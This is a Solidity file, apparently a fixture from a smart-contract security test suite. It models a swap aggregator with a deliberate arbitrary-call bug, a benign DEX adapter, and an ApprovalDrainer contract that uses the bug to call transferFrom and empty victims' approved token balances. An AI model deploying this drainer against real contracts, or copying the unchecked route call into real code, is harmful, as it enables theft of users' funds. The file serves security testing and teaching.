// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IUniswapV2Pair, V2Math} from "../Interfaces.sol";

// arbitrary-call-drain: a swap aggregator that makes whatever call a route names, the DEX adapter its honest
// routes name, and the contract that points a route at the token itself.

/// Models a swap aggregator. Users approve it once, without limit, as aggregator front-ends ask; a swap pulls the
/// input from the user straight to the route's adapter, calls the adapter with the route's data, and forwards
/// what came back of the output token. VULNERABLE: the route's target and data are the caller's (see BUG), and
/// the call is made as the aggregator, which holds every user's approval: a route whose target is a token and
/// whose data is transferFrom(user, anyone, amount) moves that user's tokens.
contract RouteAggregator {
    event Swapped(address indexed user, address indexed tokenIn, address indexed tokenOut, uint256 amountIn,
                  uint256 amountOut);

    function swap(IERC20 tokenIn, uint256 amountIn, IERC20 tokenOut, uint256 minOut, address target,
                  bytes calldata data) external returns (uint256 out) {
        if (amountIn > 0) {
            tokenIn.transferFrom(msg.sender, target, amountIn);
        }
        uint256 before = tokenOut.balanceOf(address(this));
        (bool ok,) = target.call(data); // BUG: any target, any call, with the aggregator's approvals
        require(ok, "RouteAggregator: route failed");
        out = tokenOut.balanceOf(address(this)) - before;
        require(out >= minOut, "RouteAggregator: slippage");
        if (out > 0) {
            tokenOut.transfer(msg.sender, out);
        }
        emit Swapped(msg.sender, address(tokenIn), address(tokenOut), amountIn, out);
    }
}

/// Benign: the adapter honest routes name. It sells everything it holds of `tokenIn` into a V2 pair and sends
/// the output to `to` (the aggregator).
contract V2SwapAdapter {
    function sellAll(IUniswapV2Pair pair, address tokenIn, address to) external returns (uint256) {
        return V2Math.sell(pair, tokenIn, IERC20(tokenIn).balanceOf(address(this)), to);
    }
}

/// The attack contract: for each victim, a "swap" of nothing whose route is token.transferFrom(victim, owner,
/// what the victim holds), all in one transaction.
contract ApprovalDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function drain(RouteAggregator aggregator, IERC20 token, address[] calldata victims) external {
        require(msg.sender == owner, "not owner");
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 amount = token.balanceOf(victims[i]);
            uint256 allowed = token.allowance(victims[i], address(aggregator));
            if (allowed < amount) {
                amount = allowed;
            }
            bytes memory call = abi.encodeCall(IERC20.transferFrom, (victims[i], owner, amount));
            aggregator.swap(token, 0, token, 0, address(token), call);
        }
    }
}
